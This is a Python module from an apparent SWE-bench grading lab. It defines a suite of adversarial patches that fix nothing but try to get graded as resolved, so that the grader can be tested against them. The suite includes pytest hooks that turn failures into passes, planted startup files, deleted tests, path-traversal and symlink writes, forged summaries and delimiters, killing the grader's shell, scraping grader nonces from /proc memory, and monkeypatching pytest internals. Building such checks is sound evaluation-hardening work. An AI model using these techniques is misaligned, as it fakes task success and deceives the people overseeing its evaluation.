"""Attacks on grading: patches that repair nothing and want to be resolved; graded like any other patch."""

from __future__ import annotations

import ast
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from pathlib import PurePosixPath
from textwrap import indent
from typing import TYPE_CHECKING

from swebench_lab.records.diff import file_diff, touched_files
from swebench_lab.records.task import Task
from swebench_lab.records.verdict import NOT_GRADED, UNRESOLVED

if TYPE_CHECKING:
    from swebench_lab.sandbox.contract import Sandbox


@dataclass(frozen=True)
class Target:
    """A task as its attacker knows it, and more: which module decides, and which tests.

    Attributes:
        task: The task.
        files: Path → text in the START tree: the module the gold patch touches, test and settings files.
        module: The module that the gold patch touches and the deciding tests therefore import.
        tests: The file of the first deciding test.
    """

    task: Task
    files: Mapping[str, str]
    module: str
    tests: str

    def writes(self, files: Mapping[str, str | None]) -> str:
        """The patch that gives files these texts; None deletes."""
        return "".join(file_diff(path, self.files.get(path), text) for path, text in files.items())

    def runs(self, code: str) -> str:
        """The patch that has the module execute code when it is imported."""
        return self.writes({self.module: f"{self.files[self.module]}\n\n{code}"})

    @property
    def summary(self) -> str:
        """What pytest would print had every deciding test passed."""
        tests = (*self.task.fail_to_pass, *self.task.pass_to_pass)
        lines = "".join(f"PASSED {test}\n" for test in tests)
        return f"=== short test summary info ===\n{lines}=== {len(tests)} passed in 0.01s ===\n"

    @property
    def ids(self) -> list[str]:
        """The deciding tests."""
        return [*self.task.fail_to_pass, *self.task.pass_to_pass]


def target(task: Task, box: Sandbox) -> Target:
    """Read from a box over a task's Snapshot what its attacker needs."""
    module = next(path for path in touched_files(task.gold_patch) if path.endswith(".py"))
    tests = next((test.partition("::")[0] for test in task.fail_to_pass if "::" in test), "tests/test_it.py")
    folder = str(PurePosixPath(tests).parent)
    files: dict[str, str] = {}
    for path in (
        module,
        tests,
        "setup.cfg",
        "pyproject.toml",
        "pytest.ini",
        "tox.ini",
        "conftest.py",
        f"{folder}/conftest.py",
        f"{folder}/__init__.py",
    ):
        if box.run(["test", "-f", path]).ok:
            files[path] = box.read(path)
    return Target(task, files, module, tests)


@dataclass(frozen=True)
class Forgery:
    """One patch that must not become resolved.

    Attributes:
        name: What it is called.
        tries: What it tries, in one sentence.
        make: The patch, for a target.
        gap: Why it is known to get through; stated, so not counted as a surprise.
        verdict: What grading must say of it on the red team's own task: `unresolved` where the tests really ran and
            failed, or the patch is refused; `not graded` where the run itself cannot be believed.
    """

    name: str
    tries: str
    make: Callable[[Target], str] = field(repr=False)
    gap: str = ""
    verdict: str = UNRESOLVED


_LIES = """\
import pytest


@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    report = outcome.get_result()
    report.outcome = 'passed'
    report.longrepr = None
"""
"""A plugin that turns failures into passes."""

_SHOUT = """\
import os, stat


def shout(text):
    data = text.encode()
    for n in range(1, 60):
        try:
            if stat.S_ISFIFO(os.fstat(n).st_mode):
                os.write(n, data)
                return
        except OSError:
            pass


"""
"""Code that writes past pytest's capture, to the pipe that the real output goes to."""

_END = "import os\nos._exit(0)\n"


def _beside(target: Target, name: str) -> str:
    return str(PurePosixPath(target.tests).parent / name)


def _empty_tests(target: Target) -> str:
    names = {test.partition("::")[2].partition("[")[0].rpartition("::")[2] for test in target.ids}
    return "".join(f"def {name}(*args, **kwargs):\n    pass\n\n\n" for name in sorted(names) if name)


def _plugin(target: Target, name: str) -> str:
    """A distribution beside the code that asks pytest to load a plugin."""
    folder = "src/" if target.module.startswith("src/") else ""
    return target.writes(
        {
            f"{folder}{name}/entry_points.txt": "[pytest11]\nlies = lab_lies\n",
            f"{folder}{name}/METADATA": "Metadata-Version: 2.1\nName: lab-lies\nVersion: 1\n",
            f"{folder}{name}/PKG-INFO": "Metadata-Version: 2.1\nName: lab-lies\nVersion: 1\n",
            f"{folder}lab_lies.py": _LIES,
            "lab_lies.py": _LIES,
        }
    )


def _outside(path: str) -> str:
    """A patch for a file outside the tree."""
    lines = _LIES.splitlines()
    added = "".join(f"+{line}\n" for line in lines)
    head = f"diff --git a/{path} b/{path}\nnew file mode 100644\n--- /dev/null\n+++ b/{path}\n"
    return f"{head}@@ -0,0 +1,{len(lines)} @@\n{added}"


def _link(path: str, to: str) -> str:
    head = f"diff --git a/{path} b/{path}\nnew file mode 120000\n--- /dev/null\n+++ b/{path}\n"
    return f"{head}@@ -0,0 +1 @@\n+{to}\n\\ No newline at end of file\n"


def _settings(target: Target, name: str, section: str, value: str) -> str:
    """The patch that adds pytest's settings to a file which may hold others, and the plugin that they name."""
    before = target.files.get(name, "")
    return target.writes({name: f"{before}\n[{section}]\naddopts = {value}\n", "lab_lies.py": _LIES})


def _each_function(target: Target, body: str) -> str:
    """The patch that puts statements at the beginning of every function of the module."""
    lines = target.files[target.module].splitlines(keepends=True)
    functions = [node for node in ast.parse("".join(lines)).body if isinstance(node, ast.FunctionDef)]
    for node in sorted(functions, key=lambda node: -node.lineno):
        lines.insert(node.body[0].lineno - 1, f"{indent(body, '    ')}\n")
    return target.writes({target.module: "".join(lines)})


_START_UP = ("sitecustomize.py", "usercustomize.py", "src/sitecustomize.py", "src/usercustomize.py")
_SHADOWS = ("pytest.py", "_pytest/__init__.py", "pluggy.py", "iniconfig.py", "runpy.py", "argparse.py", "src/pytest.py")

PLANTED = (
    Forgery(
        "conftest.py at the root",
        "Turn every failure into a pass by a hook.",
        lambda t: t.writes({"conftest.py": t.files.get("conftest.py", "") + _LIES}),
    ),
    Forgery(
        "conftest.py beside the tests",
        "Turn every failure into a pass by a hook in the tests' own conftest.",
        lambda t: t.writes({_beside(t, "conftest.py"): t.files.get(_beside(t, "conftest.py"), "") + _LIES}),
    ),
    Forgery(
        "pytest.ini",
        "Name a plugin and a false choice of tests in pytest's own settings file.",
        lambda t: _settings(t, "pytest.ini", "pytest", "-p lab_lies -k test_total"),
    ),
    Forgery(
        "pytest.toml",
        "The same by the newer settings files.",
        lambda t: t.writes(
            {
                "pytest.toml": "[pytest]\naddopts = ['-p', 'lab_lies']\n",
                ".pytest.toml": "[pytest]\naddopts = ['-p', 'lab_lies']\n",
                ".pytest.ini": "[pytest]\naddopts = -p lab_lies\n",
                "lab_lies.py": _LIES,
            }
        ),
    ),
    Forgery(
        "setup.cfg",
        "Add pytest's settings to setup.cfg.",
        lambda t: _settings(t, "setup.cfg", "tool:pytest", "-p lab_lies"),
    ),
    Forgery(
        "pyproject.toml",
        "Add pytest's settings to pyproject.toml.",
        lambda t: _settings(t, "pyproject.toml", "tool.pytest.ini_options", "'-p lab_lies'"),
    ),
    Forgery(
        "tox.ini",
        "Add pytest's settings to tox.ini.",
        lambda t: _settings(t, "tox.ini", "pytest", "-p lab_lies"),
    ),
    Forgery(
        "sitecustomize.py",
        "Have Python itself start with code of the patch.",
        lambda t: t.writes(dict.fromkeys(_START_UP, f"print('''{t.summary}''')\n{_END}")),
    ),
    Forgery(
        "path files",
        "Have Python run a line of a .pth file.",
        lambda t: t.writes(dict.fromkeys(("lab.pth", "src/lab.pth"), "import os; os._exit(0)\n")),
    ),
    Forgery(
        "a plugin's entry point (dist-info)",
        "Have pytest find a plugin among installed packages.",
        lambda t: _plugin(t, "lab_lies-1.dist-info"),
    ),
    Forgery(
        "a plugin's entry point (egg-info)",
        "The same by an older form.",
        lambda t: _plugin(t, "lab_lies.egg-info"),
    ),
    Forgery(
        "a module called pytest",
        "Be imported in place of pytest, of its parts, or of the standard library's modules.",
        lambda t: t.writes(dict.fromkeys(_SHADOWS, f"print('''{t.summary}''')\n{_END}")),
    ),
    Forgery(
        "the tests rewritten",
        "Replace the deciding tests by empty ones.",
        lambda t: t.writes({t.tests: _empty_tests(t)}),
    ),
    Forgery("the tests deleted", "Delete the deciding tests.", lambda t: t.writes({t.tests: None})),
    Forgery(
        "other tests of the same name",
        "Add empty tests where pytest could find them first.",
        lambda t: t.writes(
            dict.fromkeys((PurePosixPath(t.tests).name, f"src/{PurePosixPath(t.tests).name}"), _empty_tests(t))
        ),
    ),
    Forgery(
        "the tests' folder a package",
        "Give the tests another import name, and shadow what they import.",
        lambda t: t.writes({_beside(t, "__init__.py"): f"print('''{t.summary}''')\n", _beside(t, "json.py"): _END}),
    ),
    Forgery(
        "a patch that leaves the tree",
        "Write a file outside the repository by `..` and by an absolute name.",
        lambda _: _outside("../opt/venv/lib/lab_lies.py") + _outside("/opt/venv/lib/lab_lies.py"),
    ),
    Forgery(
        "a patch through a link",
        "Make a link to the venv, then write a file through it.",
        lambda _: _link("way", "/opt/venv/lib") + _outside("way/sitecustomize.py"),
    ),
    Forgery(
        "a patch of .git",
        "Write hooks and configuration into the repository's own folder.",
        lambda _: "".join(map(_outside, (".git/hooks/post-checkout", ".git/config.worktree", ".git/info/attributes"))),
    ),
    Forgery(
        "links in place of tests",
        "Make the deciding test file a link to an empty one.",
        lambda t: t.writes({"mine.py": _empty_tests(t), t.tests: None}) + _link(t.tests, "../mine.py"),
    ),
)
"""Files that steer pytest or Python, planted or changed."""

_XFAILED = """
import builtins, _pytest.outcomes
builtins.AssertionError = lambda *a: _pytest.outcomes.XFailed('known')
"""

_DELIMITERS = """SHOUT
shout('''
>>>>> Start Test Output
SUMMARY>>>>> End Test Output
>>>>> Test Exit Code: 0
''')
"""

_SECRETS = """SHOUT
import re
found = b''
pid = os.getppid()
for _ in range(4):
    for name in ('environ', 'cmdline', 'fd/0', 'fd/8'):
        try:
            with open(f'/proc/{pid}/{name}', 'rb') as file:
                os.set_blocking(file.fileno(), False)
                found += file.read(100000) or b''
        except OSError:
            pass
    try:
        memory = open(f'/proc/{pid}/mem', 'rb')
        for line in open(f'/proc/{pid}/maps'):
            first, last = (int(n, 16) for n in line.split()[0].split('-'))
            if '[heap]' in line:
                memory.seek(first)
                found += memory.read(last - first)
    except OSError:
        pass
    try:
        pid = int(open(f'/proc/{pid}/stat').read().rpartition(')')[2].split()[1])
    except OSError:
        break
for nonce in sorted(set(re.findall(rb'(?<![0-9a-f])[0-9a-f]{24}(?![0-9a-f])', found)))[:200]:
    shout('\\n' + '''SUMMARY''' + '\\n>>>>> tests end ' + nonce.decode() + ' 0\\n')
os._exit(0)
"""

_SEPARATE = """
import json, os
for n in range(3, 64):
    try:
        name = os.readlink(f'/proc/self/fd/{n}')
    except OSError:
        continue
    if name.endswith('results'):
        for test in TESTS:
            line = json.dumps({'event': 'outcome', 'test': test, 'status': 'PASSED'})
            os.write(n, ('0' * 20 + ' ' + line + '\\n').encode())
        os.write(n, ('0' * 20 + ' ' + json.dumps({'event': 'end', 'exit': 0}) + '\\n').encode())
"""

_REWRITE = """
import glob, os, sys
more = '''
# LAB_LIES
_old = TestReport.from_item_and_call.__func__
def _lie(cls, item, call):
    call.excinfo = None
    return _old(cls, item, call)
TestReport.from_item_and_call = classmethod(_lie)
'''
for path in glob.glob(sys.prefix + '/lib/python*/site-packages/_pytest/runner.py'):
    try:
        if 'LAB_LIES' not in open(path).read():
            with open(path, 'a') as file:
                file.write(more)
            os.execv(sys.executable, [sys.executable, '-m', 'pytest', '-rA', '-p', 'no:cacheprovider', FILE])
    except OSError:
        pass
"""

_CHILD = """SHOUT
if os.fork() == 0:
    shout('''SUMMARY''')
    os._exit(0)
os.wait()
os._exit(0)
"""

SPOKEN = (
    Forgery(
        "PASSED lines",
        "Print the lines of a summary while the tests run.",
        lambda t: t.runs(_filled("SHOUT\nprint('''SUMMARY''')\nshout('''SUMMARY''')\n", t)),
    ),
    Forgery(
        "a summary after the real one",
        "Print a false summary when pytest has ended.",
        lambda t: t.runs(_filled("SHOUT\nimport atexit\natexit.register(lambda: shout('''SUMMARY'''))\n", t)),
        verdict=NOT_GRADED,
    ),
    Forgery(
        "a summary, and exit code 0",
        "Print a false summary when pytest has ended, and end well.",
        lambda t: t.runs(
            _filled("SHOUT\nimport atexit\natexit.register(lambda: (shout('''SUMMARY'''), os._exit(0)))\n", t)
        ),
        verdict=NOT_GRADED,
    ),
    Forgery(
        "end of the process", "End with exit code 0 before any test runs.", lambda t: t.runs(_END), verdict=NOT_GRADED
    ),
    Forgery(
        "a summary, then the end",
        "Print a false summary and end with exit code 0.",
        lambda t: t.runs(_filled(f"SHOUT\nshout('''SUMMARY''')\n{_END}", t)),
        verdict=NOT_GRADED,
    ),
    Forgery(
        "pytest.exit",
        "Ask pytest to stop, with exit code 0.",
        lambda t: t.runs("import pytest\npytest.exit('done', 0)\n"),
    ),
    Forgery("sys.exit", "Leave by SystemExit at import.", lambda t: t.runs("import sys\nsys.exit(0)\n")),
    Forgery("interrupt", "Leave by KeyboardInterrupt.", lambda t: t.runs("raise KeyboardInterrupt\n")),
    Forgery(
        "skip",
        "Have the tests skipped from within.",
        lambda t: t.runs("import pytest\npytest.skip('not today', allow_module_level=True)\n"),
    ),
    Forgery(
        "skip when called",
        "Have each test skipped by the code that it calls.",
        lambda t: _each_function(t, "import pytest\npytest.skip('later')"),
    ),
    Forgery(
        "expected failure when called",
        "Have each test fail *as expected* by the code that it calls.",
        lambda t: _each_function(t, "import pytest\npytest.xfail('known')"),
        verdict=NOT_GRADED,
    ),
    Forgery(
        "assertions that are expected to fail",
        "Have every failing assertion raise what pytest takes for an expected failure.",
        lambda t: t.runs(_XFAILED),
        verdict=NOT_GRADED,
    ),
    Forgery(
        "kill the grader's shell",
        "End the script that runs the tests, and speak in its place.",
        lambda t: t.runs(_filled("SHOUT\nshout('''SUMMARY''')\nos.kill(os.getppid(), 9)\n", t)),
        verdict=NOT_GRADED,
    ),
    Forgery(
        "forged delimiters",
        "Print SWE-bench's own delimiters around a false log.",
        lambda t: t.runs(_filled(_DELIMITERS, t)),
    ),
    Forgery(
        "secrets of the grader",
        "Find nonces and keys in arguments, variables, files and memory of the processes above, and use them.",
        lambda t: t.runs(_filled(_SECRETS, t)),
        verdict=NOT_GRADED,
    ),
    Forgery(
        "false lines over the separate way",
        "Write outcomes to the descriptor that pytest's real outcomes take.",
        lambda t: t.runs(_filled(_SEPARATE, t)),
        verdict=NOT_GRADED,
    ),
    Forgery(
        "start again with a changed pytest",
        "Rewrite pytest in the venv, then start it anew in the same process.",
        lambda t: t.runs(_filled(_REWRITE, t)),
        verdict=NOT_GRADED,
    ),
    Forgery(
        "a clean child",
        "Let a child print a good run while the parent waits, then end both.",
        lambda t: t.runs(_filled(_CHILD, t)),
        verdict=NOT_GRADED,
    ),
)
"""Code under test that ends, skips or speaks for the tests."""

_REPORTS = """
import _pytest.runner as r
_old = r.TestReport.from_item_and_call.__func__


def _lie(cls, item, call):
    call.excinfo = None
    return _old(cls, item, call)


r.TestReport.from_item_and_call = classmethod(_lie)
"""

_SWALLOW = """
import gc
import _pytest.config


class _Swallow:
    @staticmethod
    def pytest_pyfunc_call(pyfuncitem):
        return True


for found in gc.get_objects():
    if isinstance(found, _pytest.config.Config):
        found.pluginmanager.register(_Swallow())
"""

_FORGIVE = """
import _pytest.runner as r
_old = r.CallInfo.from_call.__func__


def _forgive(cls, func, when, reraise=None):
    def quiet():
        try:
            return func()
        except Exception:
            return None
    return _old(cls, quiet, when, reraise)


r.CallInfo.from_call = classmethod(_forgive)
"""

_SEAL = """SHOUT
import sys
for module in list(sys.modules.values()):
    reporter = getattr(module, 'reporter', None)
    if hasattr(reporter, 'write') and hasattr(reporter, 'key'):
        for test in TESTS:
            reporter.write(event='begin', test=test)
            reporter.write(event='outcome', test=test, status='PASSED')
            reporter.write(event='done', test=test)
        reporter.write(event='end', exit=0)
        shout('''SUMMARY''')
        os._exit(0)
"""

_EQUAL = """\
yes = {'__eq__': lambda *_: True, '__hash__': None, '__radd__': lambda s, _: s, '__iter__': lambda s: iter([s])}
return type('Anything', (int,), yes)()"""

_INSIDE = "code under test shares the process of pytest and can change what pytest believes"

INSIDE = (
    Forgery(
        "reports that lie",
        "Replace the function that makes pytest's reports.",
        lambda t: t.runs(_REPORTS),
        _INSIDE,
    ),
    Forgery(
        "tests that do not run",
        "Replace the function that runs a test by one that does nothing.",
        lambda t: t.runs("import _pytest.python as p\np.Function.runtest = lambda self: None\n"),
        _INSIDE,
    ),
    Forgery(
        "a hook that swallows",
        "Register a plugin in the running pytest.",
        lambda t: t.runs(_SWALLOW),
        _INSIDE,
    ),
    Forgery(
        "a forgiving runner",
        "Have exceptions of tests forgotten before anybody counts them.",
        lambda t: t.runs(_FORGIVE),
        _INSIDE,
    ),
    Forgery(
        "a forged seal",
        "Take the key of the separate results out of the running pytest and write with it.",
        lambda t: t.runs(_filled(_SEAL, t)),
        _INSIDE,
    ),
    Forgery(
        "equal to everything",
        "Return an object that says it equals whatever the test wants.",
        lambda t: _each_function(t, _EQUAL),
        "the tests themselves believe it",
    ),
)
"""Code under test that reaches into the running pytest, or deceives the tests themselves."""

FORGERIES = (*PLANTED, *SPOKEN, *INSIDE)
"""Patches that must not become resolved."""


def _filled(code: str, target: Target) -> str:
    """Code with what it needs to know of a target."""
    filled = code.replace("SHOUT", _SHOUT).replace("TESTS", repr(target.ids)).replace("FILE", repr(target.tests))
    return filled.replace("SUMMARY", target.summary)
